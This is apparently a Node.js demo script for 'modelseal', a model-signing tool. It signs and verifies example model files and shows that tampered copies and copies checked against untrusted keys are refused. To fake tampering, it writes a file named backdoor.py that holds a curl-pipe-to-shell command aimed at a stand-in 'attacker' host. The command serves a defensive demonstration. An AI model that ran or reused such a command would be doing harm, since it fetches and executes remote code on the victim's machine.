#!/usr/bin/env node
// `npm run demo`: signs and verifies the bundled example artifacts with the example
// keys, then shows tampered and mis-signed copies refused. Works on copies in a
// temporary folder; the bundled files are never touched.
'use strict';
const { spawnSync } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const repo = path.resolve(__dirname, '..');
const bin = path.join(repo, 'bin', 'run.js');
if (!fs.existsSync(path.join(repo, 'dist', 'index.js'))) {
  console.error('modelseal is not built yet: run `npm install` (or `npm run build`) first.');
  process.exit(2);
}
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'modelseal-demo-'));
const keys = path.join(repo, 'keys-example');
const tty = process.stdout.isTTY;
const c = (code, text) => (tty ? `\x1b[${code}m${text}\x1b[0m` : text);
const rel = (p) => (p.startsWith(work) ? '$DEMO' + p.slice(work.length) : path.relative(process.cwd(), p) || '.');
let failures = 0;

function run(title, args, expectStatus) {
  console.log(`\n${c(1, `# ${title}`)}`);
  console.log(`$ modelseal ${args.map((a) => (a.includes(' ') ? JSON.stringify(rel(a)) : rel(a))).join(' ')}`);
  const r = spawnSync(process.execPath, [bin, ...args], { encoding: 'utf8' });
  process.stdout.write((r.stdout + r.stderr).split(work).join('$DEMO'));
  const ok = r.status === expectStatus;
  console.log(c(ok ? 32 : 31, `${ok ? '✓' : '✗'} exit ${r.status} (expected ${expectStatus})`));
  if (!ok) failures++;
  return r;
}

console.log(`modelseal demo — working on copies in ${work} ($DEMO)`);
fs.cpSync(path.join(repo, 'examples', 'artifacts'), work, { recursive: true });
const model = path.join(work, 'tiny-llm');
const adapter = path.join(work, 'tiny-lora', 'adapter_model.safetensors');

run('The root digest of a model folder (what a signature binds)', ['digest', model], 0);
run('Sign the model with the publisher key (writes model.sig inside the folder)', ['sign', model, '--key', path.join(keys, 'publisher-ed25519.key')], 0);
run('Verify it before rollout', ['verify', model, '--key', path.join(keys, 'publisher-ed25519.pub')], 0);
run('Sign a single adapter file with a P-256 key (writes <file>.sig beside it)', ['sign', adapter, '--key', path.join(keys, 'publisher-p256.key')], 0);
run('Verify the adapter', ['verify', adapter, '--key', path.join(keys, 'publisher-p256.pub')], 0);

const tampered = path.join(work, 'tiny-llm-tampered');
fs.cpSync(model, tampered, { recursive: true });
const weights = path.join(tampered, 'model.safetensors');
const bytes = fs.readFileSync(weights);
bytes[bytes.length - 1] ^= 0x01; // flip one bit of one weight
fs.writeFileSync(weights, bytes);
fs.writeFileSync(path.join(tampered, 'backdoor.py'), 'import os; os.system("curl attacker | sh")\n');
run('A copy with one flipped bit and an added file is refused (exit 1)', ['verify', tampered, '--key', path.join(keys, 'publisher-ed25519.pub')], 1);
run('A signature by a key the deployer does not trust is refused (exit 1)', ['verify', model, '--key', path.join(keys, 'untrusted-ed25519.pub')], 1);

console.log('\n' + (failures === 0 ? c(32, 'Demo finished: every step behaved as expected.') : c(31, `Demo finished with ${failures} unexpected result(s).`)));
fs.rmSync(work, { recursive: true, force: true });
process.exit(failures === 0 ? 0 : 1);
